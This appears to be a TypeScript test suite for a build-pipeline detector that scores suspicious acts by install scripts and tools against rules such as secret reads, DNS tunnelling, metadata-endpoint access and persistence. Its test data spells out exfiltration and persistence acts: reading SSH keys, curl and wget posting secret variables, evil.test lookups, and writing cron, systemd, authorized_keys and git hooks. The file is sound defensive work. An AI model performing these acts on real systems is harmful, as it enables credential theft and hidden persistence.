import assert from 'node:assert/strict';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { test } from 'node:test';
import { parse } from 'yaml';
import type { Actor } from '../pipeline/actor.ts';
import { gathered } from '../pipeline/gathered.ts';
import { type Outcome, Scenario } from '../pipeline/scenario.ts';

type Act = (actor: Actor) => unknown;
const tool = (world: Scenario): Actor => world.run(['bash', '-c', 'x']).starts('/w/tool');
const role = (world: Scenario): Actor => world.run('npm install').starts('sh -c x', { cwd: '/w/node_modules/p' });
const known = (world: Scenario): Actor => world.run(['bash', '-c', 'x']).starts('/opt/known');

/** What `known` is, and all it may do. */
const sha256 = 'a'.repeat(64);
const rights = [{ op: ['read'], path: ['/w/**'] }];
const manifest = { schema: 1, artifact: { sha256 }, source: 'file', rights, operations: ['create', 'delete'] };
const manifested = {
  config: { manifests: [{ file: 'manifest.yml' }] },
  evidence: gathered([{ kind: 'manifest', content: manifest, subject: 'manifest.yml' }]),
  recording: { tools: [{ path: '/opt/known', sha256 }] },
};

function after(start: (world: Scenario) => Actor, act: Act, weights = {}): Outcome {
  const world = new Scenario({ packages: { '/w/node_modules/p': 'p' }, weights, ...manifested });
  act(start(world));
  return world.judge();
}

const long = (i: number): string => `${String(i).padStart(2, '0')}${'a'.repeat(48)}.evil.test`;
const assignments = ['A_TOKEN', 'B_SECRET', 'C_PASSWORD'].map((name) => `${name}=<redacted:1>`).join('\n');

/** Every row of weights.yml that single acts raise, or an act out of order: acts that do. */
const rows: [row: string, start: typeof tool, act: Act][] = [
  ['secret:ssh', tool, (a) => a.read('/home/u/.ssh/id_ed25519')],
  ['secret:planted', role, (a) => a.create('/home/u/.npmrc')],
  ['argv-secret', tool, (a) => a.starts(['curl', '-d', assignments, 'x.test'])],
  ['new-host', tool, (a) => a.connect('192.0.2.1', 443, 'a.test')],
  ['never-resolved', tool, (a) => a.connect('203.0.113.7', 443)],
  ['listen', role, (a) => a.listen('0.0.0.0', 80)],
  ['metadata', tool, (a) => a.connect('169.254.169.254', 80)],
  ['dns-tunnel', tool, (a) => [1, 2, 3, 4, 5].map((i) => a.ask(long(i)))],
  ['create-tmp', role, (a) => a.create('/tmp/x')],
  ['exec-outside', role, (a) => a.starts('curl x')],
  ['exec-dropped', role, (a) => a.create('/w/node_modules/p/x').starts('/w/node_modules/p/x')],
  ['exec-memfd', tool, (a) => a.starts('/memfd:x')],
  ['lib-writable', role, (a) => a.create('/tmp/x.so').load('/tmp/x.so')],
  ['phase', role, (a) => a.delete('/w/node_modules/p/package.json').connect('192.0.2.1', 443, 'a.test')],
  ['chmod-exec', role, (a) => a.create('/tmp/x').chmod('/tmp/x')],
  ['mount-namespace', role, (a) => a.does('kernel.namespace', { detail: 'unshare' })],
  ['create-source', role, (a) => a.modify('/w/src/a.js')],
  ['zone:workflow', tool, (a) => a.create('/w/.github/workflows/x.yml')],
  ['zone:runner', tool, (a) => a.modify('/home/runner/work/_actions/a/b/dist/index.js')],
  ['zone:agent', tool, (a) => a.create('/w/.claude/settings.json')],
  ['modify-system', tool, (a) => a.modify('/etc/hosts')],
  ['zone:unit', tool, (a) => a.create('/etc/systemd/system/x.service')],
  ['zone:cron', tool, (a) => a.create('/etc/cron.d/x')],
  ['zone:authorized-keys', tool, (a) => a.append('/home/u/.ssh/authorized_keys')],
  ['zone:hook', tool, (a) => a.create('/w/.git/hooks/pre-commit')],
  ['zone:rc', tool, (a) => a.append('/home/u/.bashrc')],
  ['zone:pth', tool, (a) => a.create('/usr/lib/python3/dist-packages/x.pth')],
  ['write-outside', tool, (a) => a.create('/srv/x')],
  ['setuid', role, (a) => a.chmod('/w/node_modules/p/x', 0o4755)],
  ['sudo', role, (a) => a.starts('sudo x')],
  ['beyond-manifest', known, (a) => a.connect('192.0.2.1', 443, 'a.test')],
  ['outside-manifest', known, (a) => a.delete('/tmp/x')],
  ['zone:engine-socket', tool, (a) => a.does('net.connect', { proto: 'unix', addr: '/run/docker.sock' })],
];
for (const [row, start, act] of rows) {
  test(`${row} is raised`, () => {
    const { document, rules } = after(start, act);
    const found = document.findings.find((one) => one.class === row);
    assert.ok(found, `${row} is not among ${rules}`);
    assert.ok(document.risk.score !== null && document.risk.score > 0);
  });
}

/** Rows that no single act raises: orders of acts, what was written before what was read, what outlives its step. */
const later = new Set([
  'drop-exec',
  'pipe-to-interpreter',
  'foreign-runtime',
  'self-erase',
  'foreign-writer',
  'restore',
  'wide-overwrite',
  'survivor',
  'discovery',
]);

test('every row of weights.yml is raised above, or belongs to sequences and the ledger of writers', () => {
  const file = parse(readFileSync(join(import.meta.dirname, '../../profiles/weights.yml'), 'utf8')) as {
    tactics: Record<string, Record<string, number>>;
  };
  const raised = new Set(rows.map(([row]) => (row.startsWith('secret:') ? 'secret:*' : row)));
  const named = Object.values(file.tactics).flatMap(Object.keys);
  assert.deepEqual(named.filter((row) => !raised.has(row)).sort(), [...later].sort());
});

test('of the rows that match an act the heaviest makes its one deviation', () => {
  const act: Act = (a) => a.create('/tmp/x').chmod('/tmp/x', 0o4755);
  assert.equal(after(role, act).rules.join(), 'create-tmp,setuid');
  const heavier = after(role, act, { 'chmod-exec': 0.6 });
  assert.equal(heavier.rules.join(), 'chmod-exec,create-tmp');
  assert.equal(heavier.document.totals.deviations, 2);
});

const confidences: [what: string, c: number, rule: string, start: (world: Scenario) => Actor, act: Act][] = [
  [
    'a stable profile',
    0.9,
    'modify-system',
    (w) => w.run(['bash', '-c', 'x']).starts('cc x'),
    (a) => a.modify('/etc/x'),
  ],
  ['a stable role', 0.9, 'new-host', role, (a) => a.connect('192.0.2.1', 443, 'a.test')],
  ['a class', 0.6, 'write-outside', (w) => w.run(['bash', '-c', 'x']).starts('rg x'), (a) => a.create('/srv/x')],
  ['none', 0.6, 'new-host', tool, (a) => a.connect('192.0.2.1', 443, 'a.test')],
  [
    'a zone, by a program below another',
    0.9,
    'zone-cron',
    (w) => tool(w).starts('/w/other'),
    (a) => a.create('/etc/cron.d/x'),
  ],
  [
    'a zone, by a profiled tool that the step names',
    0.9,
    'zone-cron',
    (w) => w.run(['bash', '-c', 'x']).starts('cc x'),
    (a) => a.create('/etc/cron.d/x'),
  ],
  [
    'a zone, by the step’s own shell',
    0.6,
    'zone-cron',
    (w) => w.run(['bash', '-c', 'x']),
    (a) => a.create('/etc/cron.d/x'),
  ],
  ['a zone, by an unprofiled program that the step names', 0.6, 'zone-cron', tool, (a) => a.create('/etc/cron.d/x')],
  ['a zone, within a role', 0.9, 'zone-cron', role, (a) => a.create('/etc/cron.d/x')],
];
for (const [what, c, rule, start, act] of confidences) {
  test(`c is ${c} against ${what}`, () => {
    assert.equal(after(start, act).finding(rule).c, c);
  });
}

test('golden: gcc creating /tmp/a.o is 0, curl 1.80; gcc modifying a file of /etc 5.40', () => {
  const score = (command: string, act: Act) =>
    after((world) => world.run(['bash', '-c', 'x']).starts(command), act).document.risk.score;
  assert.equal(
    score('cc -c a.c', (a) => a.create('/tmp/a.o')),
    0,
  );
  assert.equal(
    score('curl -o /tmp/a.o x', (a) => a.create('/tmp/a.o')),
    1.8,
  );
  assert.equal(
    score('cc -c a.c', (a) => a.modify('/etc/x')),
    5.4,
  );
});

test('three redacted values are an environment only when a fetcher hands them over in one argument', () => {
  const raised = (command: string[]) => after(tool, (a) => a.starts(command)).rules.includes('argv-secret');
  assert.equal(raised(['wget', '--post-data', assignments]), true);
  assert.equal(raised(['curl', '-H', 'A=<redacted:1>', '-H', 'B=<redacted:2>', '-H', 'C=<redacted:3>']), false);
  assert.equal(raised(['docker', 'build', assignments]), false);
});
